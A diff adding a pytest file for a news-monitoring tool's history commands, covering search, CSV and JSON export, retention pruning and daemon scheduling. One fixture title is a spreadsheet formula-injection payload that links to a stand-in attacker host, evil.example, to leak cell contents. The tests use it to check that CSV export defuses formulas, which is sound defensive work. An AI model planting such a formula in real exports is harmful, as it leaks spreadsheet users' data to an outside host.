@@ -1,0 +1,207 @@
+"""The history from the command line and the daemon: search, export formats, retention."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import sqlite3
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from apscheduler.schedulers.asyncio import AsyncIOScheduler
+
+from monitor.app import build_pipeline
+from monitor.config import load_settings
+from monitor.daemon import Daemon
+from monitor.export import ARTICLE_FIELDS, HIT_FIELDS, csv_lines, safe_cell
+from monitor.matching.nlp import LanguagePipelines
+from monitor.models import make_article
+from monitor.store.repo import Routed
+from tests.conftest import REPO, SEEDS, SHIPPED_RULE_IDS
+from tests.test_cli import invoke
+
+SEED = next(SEEDS.glob("*.txt"))
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Nato")'
+
+
+@pytest.fixture
+def config(tmp_path: Path) -> Path:
+    path = tmp_path / "monitor.yaml"
+    path.write_text(
+        f"database: sqlite:///state/monitor.db\nrules: [{REPO / 'rules'}]\n"
+        "sources: {folders: []}\nchannels: {console: {type: console}}\n"
+        "retention: {article_bodies: 90d, deliveries_sent: 30d}\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+@pytest.fixture
+def archive(tmp_path: Path) -> Path:
+    """The seed (every shipped rule fires), an article with a formula for a title, one without hits."""
+    folder = tmp_path / "archive"
+    folder.mkdir()
+    (folder / "seed.txt").write_bytes(SEED.read_bytes())
+    (folder / "formula.txt").write_text(
+        f"{HOSTILE_TITLE}\n\nLa Nato si riunisce a Vilnius con i ministri.\n", encoding="utf-8"
+    )
+    (folder / "weather.txt").write_text(
+        "Meteo a Roma\n\nPioggia e vento su Roma per tutta la settimana, dice l'aeronautica.\n",
+        encoding="utf-8",
+    )
+    return folder
+
+
+def age_everything(config: Path, days: int) -> None:
+    """Make every stored row ``days`` older, as if the archive had been scanned back then."""
+    with sqlite3.connect(config.parent / "state" / "monitor.db") as db:
+        shift = f"-{days} days"
+        db.execute("UPDATE articles SET ingested_at = datetime(ingested_at, ?)", (shift,))
+        db.execute("UPDATE hits SET created_at = datetime(created_at, ?)", (shift,))
+        db.execute(
+            "UPDATE deliveries SET created_at = datetime(created_at, ?), sent_at = datetime(sent_at, ?)",
+            (shift, shift),
+        )
+
+
+def test_cli_hits_search_finds_hits_by_their_article_words(config: Path, archive: Path) -> None:
+    invoke(config, "scan", str(archive))
+    code, out, _ = invoke(config, "hits", "--search", "vilnius ministri", "--json")
+    assert code == 0
+    [row] = [json.loads(line) for line in out.splitlines()]
+    assert row["title"] == HOSTILE_TITLE and row["rule"] == "nato" and row["score"] > 0
+    assert set(row) == set(HIT_FIELDS)
+    code, out, _ = invoke(config, "hits", "--search", "nato", "--rule", "nato", "--since", "1h", "--json")
+    assert {json.loads(line)["title"] for line in out.splitlines()} >= {HOSTILE_TITLE}
+    code, _, err = invoke(config, "hits", "--search", "pioggia")
+    assert code == 0 and "no hits" in err
+
+
+def test_cli_hits_search_with_nothing_to_look_for_exits_2(config: Path) -> None:
+    code, _, err = invoke(config, "hits", "--search", '" - *')
+    assert code == 2 and "no words to look for" in err
+
+
+def test_cli_hits_csv_has_a_header_every_hit_and_no_live_formula(config: Path, archive: Path) -> None:
+    invoke(config, "scan", str(archive))
+    code, out, _ = invoke(config, "hits", "--limit", "0", "--format", "csv")
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out)))
+    assert tuple(rows[0]) == HIT_FIELDS
+    assert len(rows) == 1 + len(SHIPPED_RULE_IDS) + 1  # the seed's hits and the formula's
+    titles = [row[HIT_FIELDS.index("title")] for row in rows[1:]]
+    assert f"'{HOSTILE_TITLE}" in titles
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
+
+
+def test_cli_articles_search_includes_articles_without_hits(config: Path, archive: Path) -> None:
+    invoke(config, "scan", str(archive))
+    code, out, _ = invoke(
+        config, "articles", "--search", "pioggia roma", "--without-hits", "--format", "jsonl"
+    )
+    assert code == 0
+    [row] = [json.loads(line) for line in out.splitlines()]
+    assert set(row) == set(ARTICLE_FIELDS)
+    assert (row["title"], row["hits"], row["body_kept"]) == ("Meteo a Roma", 0, True)
+    assert "**Pioggia**" in row["headline"]
+    code, out, _ = invoke(config, "articles")
+    assert code == 0 and len(out.splitlines()) == 3 and "no hits" in out
+    code, out, _ = invoke(config, "articles", "--search", "pioggia")
+    assert out.splitlines()[1].strip().startswith("**Pioggia**")  # the headline under its article
+
+
+def test_cli_db_prune_dry_run_counts_then_prune_removes(config: Path, archive: Path) -> None:
+    invoke(config, "scan", str(archive))  # the console channel sends the alerts: sent deliveries
+    code, out, _ = invoke(config, "db", "prune", "--dry-run")
+    assert code == 0 and out.startswith("would empty 0 article bodies")
+    age_everything(config, days=100)
+    code, out, _ = invoke(config, "db", "prune", "--dry-run")
+    alerts = len(SHIPPED_RULE_IDS) + 1
+    assert (
+        out.strip()
+        == f"would empty 3 article bodies; would delete 0 articles, 0 hits, {alerts} sent deliveries"
+    )
+    code, out, _ = invoke(config, "db", "prune")
+    assert (
+        code == 0
+        and out.strip() == f"emptied 3 article bodies; deleted 0 articles, 0 hits, {alerts} sent deliveries"
+    )
+    code, out, _ = invoke(config, "hits", "--limit", "0", "--json")
+    assert len(out.splitlines()) == alerts  # the hits stay
+    code, out, _ = invoke(config, "articles", "--search", "roma")
+    assert "Meteo a Roma" in out  # found by its title; its body is gone
+    code, out, _ = invoke(config, "articles", "--search", "aeronautica")
+    assert out == ""
+    code, out, _ = invoke(config, "scan", str(archive))
+    assert "articles read: 0" in out  # pruned articles still deduplicate
+
+
+def test_cli_db_prune_without_a_policy_changes_nothing(config: Path, tmp_path: Path) -> None:
+    bare = tmp_path / "bare.yaml"
+    bare.write_text(config.read_text(encoding="utf-8").split("retention:")[0], encoding="utf-8")
+    code, _, err = invoke(bare, "db", "prune")
+    assert code == 0 and "kept forever" in err
+
+
+def test_export_csv_cells_are_defused_and_lists_joined() -> None:
+    assert safe_cell("=1+1") == "'=1+1"
+    assert safe_cell("-2") == "'-2" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell(["a", "b"]) == "a; b" and safe_cell(-2) == -2 and safe_cell(None) is None
+    lines = list(csv_lines([{"a": 'x,"y"', "b": "\nz"}], ("a", "b")))
+    assert lines == ["a,b\r\n", '"x,""y""","\'\nz"\r\n']
+
+
+@pytest.fixture
+def shared_pipelines(monkeypatch: pytest.MonkeyPatch) -> None:
+    pipelines = LanguagePipelines({"it": "blank", "en": "blank"}, "it")
+    monkeypatch.setattr("monitor.app.make_pipelines", lambda settings: pipelines)
+
+
+@pytest.mark.usefixtures("shared_pipelines")
+def test_daemon_retention_job_is_scheduled_and_prunes(config: Path) -> None:
+    settings = load_settings(str(config), env={})
+    daemon = Daemon(settings, build_pipeline(settings))
+    try:
+        scheduler = AsyncIOScheduler(timezone=UTC)
+        daemon._schedule(scheduler)
+        [job] = [job for job in scheduler.get_jobs() if job.id == "retention"]
+        assert job.trigger.interval == timedelta(days=1)
+        store = daemon.pipeline.store
+        now = datetime.now(UTC)
+        old = make_article(title="Vecchio", body="Un corpo lungo", source="s", origin="o1")
+        new = make_article(title="Nuovo", body="Un corpo recente", source="s", origin="o2")
+        store.record([Routed(old, [])], [], now - timedelta(days=91))
+        store.record([Routed(new, [])], [], now)
+        asyncio.run(daemon.prune_history())
+        kept = {stored.article.title: stored.article.body for stored in store.iter_articles()}
+        assert kept == {"Vecchio": "", "Nuovo": "Un corpo recente"}
+    finally:
+        daemon._worker.shutdown(wait=True)
+
+
+@pytest.mark.usefixtures("shared_pipelines")
+def test_daemon_without_retention_schedules_no_prune(config: Path, tmp_path: Path) -> None:
+    bare = tmp_path / "bare.yaml"
+    bare.write_text(config.read_text(encoding="utf-8").split("retention:")[0], encoding="utf-8")
+    settings = load_settings(str(bare), env={})
+    daemon = Daemon(settings, build_pipeline(settings))
+    try:
+        scheduler = AsyncIOScheduler(timezone=UTC)
+        daemon._schedule(scheduler)
+        assert "retention" not in {job.id for job in scheduler.get_jobs()}
+    finally:
+        daemon._worker.shutdown(wait=True)
+
+
+@pytest.mark.parametrize("command", [["articles"], ["db", "prune"]])
+def test_cli_history_commands_have_help_with_an_example(command: list[str]) -> None:
+    from click.testing import CliRunner
+
+    from monitor.cli import main
+
+    result = CliRunner().invoke(main, [*command, "--help"])
+    assert result.exit_code == 0 and "Example" in result.output
+    assert f"monitor {' '.join(command)}" in (REPO / "README.md").read_text(encoding="utf-8")
